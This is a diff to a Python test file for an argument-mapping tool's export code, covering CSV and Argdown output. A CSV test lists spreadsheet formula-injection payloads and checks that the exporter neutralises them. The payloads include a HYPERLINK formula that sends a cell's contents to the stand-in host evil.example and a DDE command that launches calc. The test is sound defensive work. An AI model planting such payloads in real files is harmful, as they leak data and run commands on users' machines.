@@ -10,6 +10,7 @@ import re
 import shutil
 import subprocess
 from pathlib import Path
+from typing import Any
 
 import networkx as nx
 import pytest
@@ -17,7 +18,17 @@ import pytest
 from argmap import api
 from argmap.config import Settings
 from argmap.render.argdown import to_argdown
-from argmap.render.export import CSV_COLUMNS, EXPORT_FORMATS, keep_confident, to_dot, to_graphml, to_markdown
+from argmap.render.export import (
+    CSV_COLUMNS,
+    EXPORT_FORMATS,
+    export_text,
+    keep_confident,
+    to_csv,
+    to_dot,
+    to_graphml,
+    to_markdown,
+)
+from argmap.store.models import GraphData
 
 
 def _text(settings: Settings, format: str) -> str:
@@ -113,6 +124,39 @@ def test_export_csv_has_units_and_relations(kialo_settings: Settings) -> None:
     assert sum(r["record"] == "unit" for r in rows) == 6 and sum(r["record"] == "relation" for r in rows) == 6
     units = {r["id"] for r in rows if r["record"] == "unit"}
     assert all(r["source"] in units and r["target"] in units for r in rows if r["record"] == "relation")
+
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV injection"): each must come back as text, ``'`` first.
+FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                 "\t=1+1", "\r=1+1"]
+
+
+def test_export_csv_neutralises_formulas_in_text_cells(kialo_settings: Settings) -> None:
+    data = api.graph_data(settings=kialo_settings)
+    hostile = {u.id: text for u, text in zip(data.units, FORMULA_CELLS, strict=False)}
+    units = [u.model_copy(update={"text": hostile[u.id], "topics": [hostile[u.id], "cars"], "reason": "=reason"})
+             if u.id in hostile else u for u in data.units]
+    posts = [p.model_copy(update={"author": "@author"}) for p in data.posts]
+    # a negative number in a numeric column stays a number (no relation has one, but the column must not care)
+    relations = [r.model_copy(update={"confidence": -0.25 if n == 0 else r.confidence, "model": "+model"})
+                 for n, r in enumerate(data.relations)]
+    data = data.model_copy(update={"units": units, "posts": posts, "relations": relations})
+    rows = list(csv.DictReader(io.StringIO(to_csv(data))))
+    unit_rows = {r["id"]: r for r in rows if r["record"] == "unit"}
+    for unit in units:
+        row = unit_rows[unit.id]
+        if unit.id in hostile:
+            assert row["text"] == "'" + hostile[unit.id]
+            assert row["topics"] == f"'{hostile[unit.id]}; cars" and row["reason"] == "'=reason"
+        else:
+            assert row["text"] == unit.text and not row["text"].startswith("'")  # plain text is left as it is
+        assert row["author"] == "'@author" and float(row["confidence"]) == unit.confidence
+    relation_rows = [r for r in rows if r["record"] == "relation"]
+    assert [r["confidence"] for r in relation_rows] == [str(r.confidence) for r in relations]
+    assert relation_rows[0]["confidence"] == "-0.25"
+    assert all(r["model"] == "'+model" for r in relation_rows)
+    sources = {r["id"]: r["text"] for r in rows if r["record"] == "unit"}
+    assert all(r["text"] == sources[r["source"]] for r in relation_rows)  # the source's text, neutralised alike
 
 
 def test_export_aif_has_the_aifdb_shape(kialo_settings: Settings) -> None:
@@ -242,16 +286,71 @@ def test_export_argdown_leaves_other_units_out_of_the_argument() -> None:
     assert sum(1 for line in text.splitlines() if line.strip().startswith(("<+", "<-"))) == 3
 
 
-def test_export_argdown_parses_with_the_argdown_tools(kialo_settings: Settings, tmp_path: Path) -> None:
-    """@argdown/cli reads the export back: every unit's text, the relations (ARGMAP_TEST_ARGDOWN names the tool)."""
+def _argdown_json(text: str, tmp_path: Path) -> dict[str, Any]:
+    """``text`` as @argdown/cli reads it (its JSON export); the test is skipped where the tool is missing."""
     if not ARGDOWN:
         pytest.skip("@argdown/cli is not installed: bash .ci/setup installs it (with npm), or set ARGMAP_TEST_ARGDOWN")
     source = tmp_path / "map.argdown"
-    source.write_text(to_argdown(_argdown_graph()), encoding="utf-8")
+    source.write_text(text, encoding="utf-8")
     subprocess.run([ARGDOWN, "json", str(source), str(tmp_path)], check=True, capture_output=True, timeout=120)
-    parsed = json.loads((tmp_path / "map.json").read_text(encoding="utf-8"))
+    parsed: dict[str, Any] = json.loads((tmp_path / "map.json").read_text(encoding="utf-8"))
+    return parsed
+
+
+def test_export_argdown_parses_with_the_argdown_tools(kialo_settings: Settings, tmp_path: Path) -> None:
+    """@argdown/cli reads the export back: every unit's text, the relations (ARGMAP_TEST_ARGDOWN names the tool)."""
+    parsed = _argdown_json(to_argdown(_argdown_graph()), tmp_path)
     texts = [member["text"] for entry in (*parsed["statements"].values(), *parsed["arguments"].values())
              for member in entry["members"] if member.get("text")]
     assert sorted(texts) == sorted(HOSTILE_TEXTS)
     kinds = sorted(r["relationType"] for r in parsed["relations"])
     assert kinds == ["attack", "support", "support"]
+
+
+def _parallel_data(settings: Settings) -> GraphData:
+    """The Kialo debate with an evidence link and an attack beside its first support, from a rule whose reason
+    is full of Argdown's and YAML's syntax."""
+    data = api.graph_data(settings=settings)
+    first = next(r for r in data.relations if r.kind == "support")
+    reason = 'quotes "Madrid" {a: 1} } x // not a comment <!-- --> #tag [A]: b \\ \u2028 é'
+    data.relations += [first.model_copy(update={"id": first.id + "-evidence", "kind": "evidence", "confidence": 0.82,
+                                                "model": "argmap.relations.v12/quote", "reason": reason}),
+                       first.model_copy(update={"id": first.id + "-attack", "kind": "attack", "confidence": 0.4})]
+    return data
+
+
+def test_export_argdown_lists_every_relation_with_its_provenance(kialo_settings: Settings) -> None:
+    """Two relations between the same units both get a line; each line carries its relation's id and provenance."""
+    data = _parallel_data(kialo_settings)
+    text = export_text(data, "argdown")
+    lines = [line for line in text.splitlines() if line.startswith("    <") and "{argmap: {relations: " in line]
+    assert len(lines) == len(data.relations) == 8
+    for relation in data.relations:
+        (line,) = [line for line in lines if f'{{"{relation.id}": {{' in line]
+        assert line.startswith("    <- " if relation.kind == "attack" else "    <+ ")
+        assert f'model: "{relation.model}"' in line and f"confidence: {relation.confidence}" in line
+    # the support and the evidence link are both <+: the output says that Argdown reads them as one
+    notes = [line for line in text.splitlines() if "reads the next line" in line]
+    assert notes == ["    // Argdown has one support: it reads the next line (evidence) and the one above as one "
+                     "relation; the data keeps both"]
+    assert "{argmap:" not in to_argdown(_argdown_graph())  # a hand-made graph's edges have no ids: nothing to list
+
+
+def test_export_argdown_provenance_parses_with_the_argdown_tools(kialo_settings: Settings, tmp_path: Path) -> None:
+    """@argdown/cli reads each relation's provenance back from the data, and the support and the attack between
+    the same units as two relations; the texts are the units' (Argdown adds a space after an element's data)."""
+    data = _parallel_data(kialo_settings)
+    parsed = _argdown_json(export_text(data, "argdown"), tmp_path)
+    elements = {**parsed["statements"], **parsed["arguments"]}
+    provenance: dict[str, Any] = {}
+    for element in elements.values():
+        provenance.update(element.get("data", {}).get("argmap", {}).get("relations", {}))
+    assert set(provenance) == {r.id for r in data.relations}
+    for relation in data.relations:
+        assert provenance[relation.id] == {"source": relation.source, "target": relation.target, "kind": relation.kind,
+                                           "confidence": relation.confidence, "model": relation.model,
+                                           "reason": relation.reason}
+    texts = sorted(m["text"].strip() for e in elements.values() for m in e["members"] if (m.get("text") or "").strip())
+    assert texts == sorted(u.text for u in data.units)
+    kinds = sorted(r["relationType"] for r in parsed["relations"])
+    assert kinds == ["attack", "attack", "attack", "attack", "support", "support", "support"]  # evidence joins support
